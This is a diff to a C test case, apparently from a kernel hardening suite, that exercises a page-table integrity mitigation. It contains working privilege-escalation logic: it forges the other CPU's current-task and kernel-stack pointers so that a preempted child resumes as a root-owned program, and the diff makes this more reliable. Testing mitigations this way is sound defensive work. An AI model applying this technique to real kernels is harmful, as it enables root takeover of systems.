@@ -1,35 +1,37 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * What: While a child runs in user mode on the other CPU, the program tells that CPU that process 1
- * is running there, on the kernel stack of process 1, and lets it be preempted: the child's
- * registers become those that process 1 goes on with. Both run the same program file.
+ * What: While a child runs in user mode on the other CPU, the program tells that CPU that a
+ * program of root is running there, on its kernel stack, and lets it be preempted: the child's
+ * registers become those that root's program goes on with. Both run the same program file.
  * Stops it: A task that leaves a CPU leaves the page tables that the seal of its stack names.
- * Without: Process 1 wakes up in the attacker's code.
+ * Without: Root's program wakes up in the attacker's code.
  */
-#include "attack.h"
+#include "forged_chain.h"
 
 ATTACK("pgtable_integrity", "preempted_as_root",
        "pgtable_integrity: a task on the page tables of another",
        "While a child runs in user mode on the other CPU, the program tells that CPU that "
-       "process 1 is running there, on the kernel stack of process 1; the child is "
-       "preempted, and its registers are those that process 1 goes on with.",
+       "a program of root is running there, on its kernel stack; the child is preempted, "
+       "and its registers are those that root's program goes on with.",
        "A task that leaves a CPU leaves the page tables that the seal of its stack names.",
-       "Process 1 wakes up in the attacker's code.");
+       "Root's program wakes up in the attacker's code.");
+
+#define ROOM 1200
 
 static bool control(void)
 {
 	return is_ordinary();
 }
 
-/* Where process 1 has memory, too. */
+/* Where root's program has memory, too. */
 static char common_stack[4096];
 
-/* No call and no memory until process 1 may have come here in the child's place. */
+/* No call and no memory until root's program may have come here in the child's place. */
 static _Noreturn void spin_and_see(void)
 {
-	for (unsigned long i = 0; i < 300000000; i++)
+	for (unsigned long i = 0; i < 100000000; i++)
 		__asm__ volatile("pause");
-	if (call0(__NR_getpid) != 1)
+	if (call0(__NR_geteuid) != 0)
 		leave(0);
 	say_result("WON");
 	for (;;)
@@ -61,8 +63,8 @@ static bool fire(void)
 {
 	volatile bool *now = (volatile bool *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE,
 						    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	const uint64_t task = own_task(), init = init_task(task), cpu = own_cpu(1);
-	const uint64_t top = peek(init + member("task.stack_top"));
+	const uint64_t task = own_task(), other = victim_task(task), cpu = own_cpu(1);
+	const uint64_t top = peek(other + member("task.stack_top"));
 	const long id = fork_program();
 	uint64_t child;
 
@@ -74,15 +76,19 @@ static bool fire(void)
 	do
 		child = peek(cpu + member("cpu.current"));
 	while (peek32(child + member("task.id")) != (uint32_t)id);
-	sleep_milliseconds(20);
-	poke(cpu + member("cpu.current"), init);
+	/* What the child's interrupt leaves on the stack must not reach what the sleeper needs. */
+	do
+		sleep_milliseconds(20);
+	while (outermost_return(other, top) - 1 >= top - ROOM);
+	poke(cpu + member("cpu.current"), other);
 	poke(cpu + member("cpu.kernel_stack_top"), top);
 	*now = true;
-	sleep_milliseconds(100);
-	leave(0); /* which wakes process 1 */
+	for (;;)
+		sleep_milliseconds(100);
 }
 
 static void victim(void)
 {
-	victim_waits();
+	for (;;)
+		sleep_milliseconds(400);
 }
